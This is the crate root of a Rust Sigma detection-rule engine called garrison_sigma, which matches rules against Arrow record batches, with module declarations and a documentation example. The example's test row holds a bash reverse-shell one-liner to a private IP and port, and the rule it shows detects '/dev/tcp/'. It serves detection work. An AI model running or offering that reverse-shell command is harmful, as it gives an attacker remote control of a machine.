//! Sigma: rules and correlations compiled into one matcher over Arrow record batches.
//!
//! ```
//! use garrison_sigma::{Engine, HuntingMap, Matches, Options, Platform, RuleSet, Scratch};
//! use arrow::array::{RecordBatch, StringArray};
//! use std::sync::Arc;
//!
//! let rule = "
//! title: Shell over the network
//! logsource: {product: linux, category: process_creation}
//! detection:
//!     selection: {CommandLine|contains: /dev/tcp/}
//!     condition: selection
//! ";
//! let (rules, diagnostics) = RuleSet::load([("shell.yml", rule)], &Options::default());
//! assert!(diagnostics.iter().all(|d| d.severity < garrison_sigma::Severity::Error));
//! let engine = Engine::compile(Arc::new(rules), Arc::new(HuntingMap));
//!
//! let column = |text: &str| Arc::new(StringArray::from(vec![text])) as arrow::array::ArrayRef;
//! let batch = RecordBatch::try_from_iter([
//!     ("ActionType", column("ProcessCreated")),
//!     ("ProcessCommandLine", column("bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'")),
//! ]).unwrap();
//! let (mut scratch, mut matches) = (Scratch::new(), Matches::new());
//! engine.evaluate(&mut scratch, "DeviceProcessEvents", Some(Platform::Linux), &batch, &mut matches);
//! assert_eq!(matches.len(), 1);
//! let why = engine.explain(matches.hits()[0].rule, "DeviceProcessEvents", &batch, 0);
//! assert_eq!(why[0].test, "contains '/dev/tcp/'");
//! ```
//!
//! The life of a rule: [`RuleSet::load`] reads texts into rules and numbered [`Diagnostic`]s; [`Engine::compile`] lowers
//! them to the tables of a [`FieldMap`]; [`Engine::evaluate`] finds hits in batches; [`CorrelationState::observe`] makes
//! hits of correlations out of hits over time.
//!
//! This crate never reads a file, a clock or an environment variable, never panics on a rule or a row, and never starts a
//! thread.

mod calendar;
mod condition;
mod correlate;
mod correlation;
mod criterion;
mod detection;
mod diagnostic;
mod encode;
mod engine;
mod explain;
mod limits;
mod lower;
mod map;
mod matcher;
mod pattern;
mod plan;
mod regexes;
mod rule;
mod ruleset;
mod scratch;
mod test;
mod trie;
mod value;
mod yaml;

pub use correlate::{CorrelationHit, CorrelationLimits, CorrelationState, Origin, RowRef};
pub use criterion::{Criterion, Literal, PairTest, Place, ValueTest};
pub use detection::Placeholders;
pub use diagnostic::{Code, Diagnostic, Severity};
pub use engine::{Engine, Hit, Matches};
pub use explain::MatchField;
pub use limits::Limits;
pub use map::{Derive, FieldMap, HuntingMap, IdentityMap, Platform, Route, Target};
pub use rule::{Level, LogSource, Rule, RuleIndex, RuleKind};
pub use ruleset::{Options, RuleSet};
pub use scratch::Scratch;
